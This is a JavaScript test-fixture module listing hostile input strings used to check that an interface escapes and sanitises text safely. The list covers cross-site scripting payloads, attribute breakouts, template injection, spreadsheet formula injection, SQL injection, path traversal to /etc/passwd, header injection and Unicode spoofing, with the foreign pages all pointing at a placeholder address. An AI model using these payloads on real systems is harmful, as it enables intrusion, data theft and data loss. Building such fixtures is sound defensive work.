// Texts that people send to see what breaks. Each one that could run says so in `window.hit`.

const RUN = 'window.hit=(window.hit||0)+1';

/** Every text by what it tries. */
export const HOSTILE = {
  script: `<script>${RUN}</script>`,
  'script, broken up': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'end of a script': `</script><script>${RUN}</script>`,
  'end of a text area': `</textarea></title></style><img src=x onerror="${RUN}">`,
  'image with a handler': `<img src=x onerror="${RUN}">`,
  'drawing with a handler': `<svg/onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  'frame with a document': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'attribute, broken out of': `" autofocus onfocus="${RUN}" x="`,
  'attribute in single quotes': `' onmouseover='${RUN}' x='`,
  'link that is a script': `javascript:${RUN}`,
  'link to data': `data:text/html,<script>${RUN}</script>`,
  'link of a foreign page': `<a href="http://203.0.113.7/x" ping="http://203.0.113.7/y">here</a>`,
  'style of a foreign page': `<style>@import url(http://203.0.113.7/a.css);*{display:none}</style>`,
  'refresh': `<meta http-equiv="refresh" content="0;url=http://203.0.113.7/">`,
  'form that takes over': `<form action="http://203.0.113.7/"><input name=q><button>Go</button></form>`,
  template: '{{constructor.constructor("' + RUN + '")()}}${' + RUN + '}{@html "<b>"}{#if true}',
  entities: '&lt;script&gt; &#60;b&#62; &amp;amp; &quot;',
  'right to left': '\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>',
  'bidirectional override': 'invoice\u202Egpj.exe\u2066\u2067 end',
  'zero width': 'pay\u200Bment\u200C\u200D\uFEFF\u2060 to',
  'combining flood': `z${'\u0300\u0301\u0302\u0489'.repeat(60)}algo`,
  'family of emoji': '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}',
  formula: '=HYPERLINK("http://203.0.113.7","x")+cmd|\' /C calc\'!A0',
  'lines and returns': 'first\r\nSet-Cookie: a=b\r\n\r\nsecond\u2028third\u2029fourth\u0085',
  'terminal escapes': '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u009b2J',
  'end of a text': 'before\u0000after',
  database: `'; DROP TABLE messages; -- " OR "1"="1`,
  prototype: '__proto__',
  constructor: 'constructor',
  'end of JSON': '"}]}\\u0022,"admin":true,{"x":"',
  'format codes': '%s%n%d%x %00 %2e%2e%2f ../../../etc/passwd',
  'long and unbroken': 'W'.repeat(10_000),
  'one megabyte': `start-${'m'.repeat(1 << 20)}-end`,
};

/** Own ids may not hold control characters. */
export function withoutControls(text) {
  return text.replace(/[\u0000-\u001f\u007f-\u009f]/g, '');
}

/** The longest beginning that has at most so many bytes of UTF-8. */
export function atMost(text, bytes) {
  let cut = text.slice(0, bytes);
  while (Buffer.byteLength(cut) > bytes) cut = cut.slice(0, -1);
  return cut.isWellFormed() ? cut : cut.slice(0, -1);
}
